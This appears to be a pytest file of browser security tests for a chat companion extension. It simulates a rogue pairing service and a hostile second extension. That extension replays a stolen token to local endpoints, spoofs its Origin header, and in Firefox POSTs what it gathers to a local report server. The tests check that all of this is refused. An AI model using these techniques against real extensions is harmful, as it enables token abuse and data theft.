"""Sieges in a real browser: a program that plays our service, and other people's extensions."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import secrets

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from companion.demo import browser
from companion.demo.rig import rigged, until
from tests import door
from tests.browser import bidi
from tests.browser.test_door import WORDS, content, fragment, launched, open_page, send, stranger

pytestmark = pytest.mark.browser


def in_our_place(origin):
    """What a program answers that plays the service: everything but the person's own dashboard."""
    kept = {}

    def says(path, body):
        if path == "/pair/start":
            own, nonce = ec.generate_private_key(ec.SECP256R1()), secrets.token_bytes(32)
            kept.update(own=own, nonce=nonce, commitment=base64.b64decode(body["commitment"]))
            return {
                "pairing": "1" * 32,
                "point": door.b64(door.point_of(own)),
                "nonce": door.b64(nonce),
                "seconds": 120,
            }
        if path == "/pair/reveal":
            theirs, nonce = base64.b64decode(body["point"]), base64.b64decode(body["nonce"])
            seen = hashlib.sha256(door.joined(
                "chat-companion/1 pair", origin, "1" * 32, kept["commitment"], door.point_of(kept["own"]), kept["nonce"],
                theirs, nonce,
            )).digest()  # fmt: skip
            kept.update(
                seen=seen, key=door.agreed(kept["own"], theirs, seen), promises=base64.b64decode(body["promises"])
            )
            return {"state": "waiting"}
        if path == "/pair/finish" and "random" not in body:  # it must promise a digit before it can know it
            return {"state": "typed", "promise": door.b64(secrets.token_bytes(32))}
        if path == "/pair/finish":
            kept["first"] = next(  # now it can work that digit out, too late
                digit for digit in "0123456789"
                if door.promise_of("browser", kept["seen"], 0, digit, base64.b64decode(body["random"])) == kept["promises"][:32]
            )  # fmt: skip
            sealing = door.point_of(kept["own"])
            confirm = door.mac(kept["key"], "chat-companion/1 paired", kept["seen"], "stranger", sealing)
            return {
                "state": "paired", "client": "stranger", "name": "x", "scopes": ["record"], "sealing": door.b64(sealing),
                "confirm": door.b64(confirm), "random": door.b64(secrets.token_bytes(32)),
            }  # fmt: skip
        return {"error": "not-paired"}

    says.kept = kept
    return says


def test_a_service_that_accepts_a_pairing_in_our_place(tmp_path):
    """It says yes to any code, but could not promise to know it before it was shown anything of it: nobody is paired."""
    with rigged(tmp_path, paired=False) as rig, stranger() as shop:
        origin = rig.worker.url.rsplit("/", 1)[0]
        with stranger(says=in_our_place(origin)) as rogue:
            rig.worker.evaluate(
                "at => chrome.storage.local.set({ service: at })", f"http://127.0.0.1:{rogue.server_port}"
            )
            pair = rig.context.new_page()
            pair.goto(origin + "/panel/pair.html")
            code = until(lambda: pair.locator("#pair-code").inner_text().strip(), "a code")
            until(lambda: rogue.says.kept.get("first"), "the stranger's yes")
            assert rogue.says.kept["first"] == code[0], "one digit is all that it learns"
            assert rig.run("pair", code, "--yes")[0] != 0, "our own companion took a code of nobody who waits there"
            page = open_page(rig, shop)
            with content(rig, page) as run:
                assert send(run, fragment(secrets.token_hex(16), 0))[0]["state"] == "unpaired"
                until(lambda: pair.locator("#pair-again").is_visible(), "the end of that pairing")
                assert pair.locator("#pair-done").is_hidden()
                assert send(run, fragment(secrets.token_hex(16), 0))[0]["state"] == "unpaired"
            assert not [body for _, _, body in rogue.got if WORDS.encode() in body]
            assert {line.split()[1] for line, _, _ in rogue.got} <= {
                "/hello",
                "/pair/start",
                "/pair/reveal",
                "/pair/finish",
            }


# -- other people's extensions ------------------------------------------------------------------------------------

PATHS = ("/hello", "/capture", "/review", "/status", "/current", "/open", "/chats", "/settings", "/signin", "/")
#: Runs in the other extension: with our client id, a token that is good right now and boxes that were really made.
THEFT = """
async function theft({ base, client, token, boxes }) {
  const nonce = btoa(String.fromCharCode(...new Uint8Array(32)));
  const got = [];
  for (const [path, box] of Object.entries(boxes)) {
    for (const mode of ['cors', 'no-cors']) {
      for (const method of ['POST', 'GET']) {
        const headers = { 'Content-Type': 'application/json', 'X-Companion-Protocol': '1', Authorization: `Bearer ${token}` };
        const body = method === 'POST' ? JSON.stringify({ client, nonce, ...box }) : undefined;
        try {
          const answer = await fetch(base + path, { method, mode, headers, body, credentials: 'include' });
          got.push([method, mode, path, answer.status, await answer.text()]);
        } catch (error) {
          got.push([method, mode, path, 0, String(error)]);
        }
      }
    }
  }
  return got;
}
"""


@pytest.fixture
def robbed(tmp_path):
    """A service, the browser paired with it, and what was stolen from that: all but the key."""
    running = door.Running(tmp_path / "home")
    victim = door.Extension(running).paired()
    stolen = {
        "base": f"http://127.0.0.1:{running.port}", "client": victim.client, "token": victim.token,
        "boxes": {path: victim.box(path, {}) for path in PATHS},
    }  # fmt: skip
    yield victim, stolen
    assert victim.call("/status", {})[0] == 200, "the token was no good: nothing was shown"
    running.stop()


def refused(got):
    assert len(got) == 4 * len(PATHS)
    for method, mode, path, status, body in got:
        if path == "/hello" and '"proof"' in body:  # the challenge is for everybody who calls himself so; see below
            raise AssertionError(f"{method} {mode} {path} was greeted as our own extension")
        assert status in (0, 401, 403, 404) and '"box"' not in body and "csrf" not in body, (
            method,
            mode,
            path,
            status,
            body,
        )
    assert any(status for *_, status, _ in got), "the other extension could not even reach the port"


def other_extension(folder, script, **more):
    folder.mkdir()
    (folder / "w.js").write_text(THEFT + script)
    (folder / "manifest.json").write_text(json.dumps({"manifest_version": 3, "name": "Other", "version": "1"} | more))
    return folder


def test_another_extension_with_all_but_the_key_gets_nothing(robbed, tmp_path):
    """In Chromium it can even call itself us: its rules rewrite the Origin of its own requests. The box stays shut."""
    victim, stolen = robbed
    folder = other_extension(
        tmp_path / "other", "", host_permissions=["http://127.0.0.1/*"], permissions=["declarativeNetRequestWithHostAccess"],
        background={"service_worker": "w.js"},
    )  # fmt: skip
    rule = {
        "id": 1, "condition": {"urlFilter": "|http://127.0.0.1"},
        "action": {"type": "modifyHeaders", "requestHeaders": [{"header": "origin", "operation": "set", "value": door.CHROME}]},
    }  # fmt: skip
    with (
        browser.headless(tmp_path / "driver", "en") as driver,
        contextlib.closing(launched(driver, tmp_path / "profile", folder)) as other,
        stranger() as witness,
    ):
        worker = other.service_workers[0] if other.service_workers else other.wait_for_event("serviceworker")
        refused(worker.evaluate("stolen => theft(stolen)", stolen))
        worker.evaluate("rule => chrome.declarativeNetRequest.updateDynamicRules({ addRules: [rule] })", rule)
        worker.evaluate("at => fetch(at, { method: 'POST', body: '{}' })", f"http://127.0.0.1:{witness.server_port}/")
        assert door.CHROME in witness.got[-1][1], "the Origin was not rewritten: the attack is not what it says"
        stolen["boxes"] = {path: {"n": 500 + n, "box": victim.box(path, {})["box"]} for n, path in enumerate(PATHS)}
        got = worker.evaluate("stolen => theft(stolen)", stolen)
        for method, mode, path, status, body in got:
            assert status != 200 or path == "/hello", (method, mode, path, body)
            assert '"lang"' not in body and '"csrf"' not in body


def test_another_extension_in_firefox_gets_nothing(robbed, tmp_path):
    _, stolen = robbed
    with stranger() as shop:
        report = f"http://127.0.0.1:{shop.server_port}/report"
        folder = other_extension(
            tmp_path / "other",
            f"theft({json.dumps(stolen)}).then((got) => fetch({report!r}, {{ method: 'POST', body: JSON.stringify({{ got }}) }}));",
            manifest_version=2, permissions=["http://127.0.0.1/*"], background={"scripts": ["w.js"]},
            browser_specific_settings={"gecko": {"id": "other@other.example"}},
        )  # fmt: skip
        with bidi.firefox(tmp_path) as firefox:
            firefox.install(folder.resolve())
            said = until(lambda: [body for line, _, body in shop.got if "/report" in line], "a report")
    refused(json.loads(said[0])["got"])
